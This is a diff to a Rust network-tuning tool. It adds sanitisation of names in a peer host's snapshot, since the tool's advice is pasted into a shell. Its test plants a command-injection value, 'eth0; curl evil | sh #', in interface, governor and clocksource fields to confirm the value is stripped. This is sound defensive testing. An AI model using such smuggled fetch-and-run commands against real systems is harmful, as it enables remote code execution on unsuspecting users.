@@ -14,7 +14,28 @@ pub const LONG_PATH_RTT: Nanos = Nanos::from_millis(100);
 /// How long a UDP receiver may wait for its CPU without losing packets: one scheduling tick at 100 Hz.
 const RECEIVER_PAUSE: Nanos = Nanos::from_millis(10);
 
+/// Interfaces of another host of which advice is given, and letters of a name of its.
+const PEERS_INTERFACES_MOST: usize = 64;
+const PEERS_LETTERS_MOST: usize = 64;
+
 impl HostSnapshot {
+    /// The snapshot that another host sent, to be judged: advice is pasted into a shell, so names of which a command could be made are replaced.
+    #[must_use]
+    pub fn of_peer(mut self) -> Self {
+        self.interfaces.truncate(PEERS_INTERFACES_MOST);
+        for interface in &mut self.interfaces {
+            tame(&mut interface.name, "INTERFACE");
+            interface.pci_address.iter_mut().for_each(|address| tame(address, "ADDRESS"));
+            if let Some(pcie) = &mut interface.pcie {
+                pcie.limited_by.iter_mut().for_each(|address| tame(address, "ADDRESS"));
+                pcie.links.iter_mut().for_each(|link| tame(&mut link.pci_address, "ADDRESS"));
+            }
+        }
+        self.cpu.governors.iter_mut().for_each(|governor| tame(governor, "unknown"));
+        self.kernel.clocksource.iter_mut().for_each(|clock| tame(clock, "unknown"));
+        self
+    }
+
     /// What is likely to cost throughput on paths of `rtt` ([`LONG_PATH_RTT`] where it is not known).
     pub fn caveats(&self, rtt: Nanos) -> Vec<Caveat> {
         let mut caveats = self.caveats_beside_buffers();
@@ -99,6 +120,14 @@ impl HostSnapshot {
                 "sysctl -w net.ipv4.tcp_window_scaling=1",
             ));
         }
+    }
+}
+
+/// Puts `instead` in place of what is no plain name.
+fn tame(name: &mut String, instead: &str) {
+    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "._:@-".contains(letter);
+    if name.len() > PEERS_LETTERS_MOST || name.starts_with('-') || !name.chars().all(is_plain) {
+        instead.clone_into(name);
     }
 }
 
@@ -255,6 +284,25 @@ mod tests {
         assert_eq!(codes(&host, LONG_PATH_RTT), expected);
         host.interfaces[0].up = false;
         assert_eq!(codes(&host, LONG_PATH_RTT), [""; 0]);
+    }
+
+    /// Advice is pasted into a shell.
+    #[test]
+    fn advice_about_another_host_is_no_command_of_its() {
+        let mut host = good_host();
+        let evil = "eth0; curl evil | sh #";
+        host.interfaces[0].offloads = vec![Offload { name: "rx-gro".into(), active: false, changeable: true }];
+        host.interfaces = vec![host.interfaces[0].clone(); 1_000];
+        host.interfaces[0].name = evil.into();
+        host.interfaces[1].name = "x".repeat(1 << 20);
+        host.cpu.governors = vec![evil.into()];
+        host.kernel.clocksource = Some(evil.into());
+        let advice = host.of_peer().caveats_beside_buffers();
+        assert!((3..=6 * PEERS_INTERFACES_MOST + 3).contains(&advice.len()), "{}", advice.len());
+        for caveat in advice {
+            let text = format!("{} {}", caveat.message, caveat.remedy);
+            assert!(!text.contains("curl") && text.len() < 400, "{text}");
+        }
     }
 
     #[test]
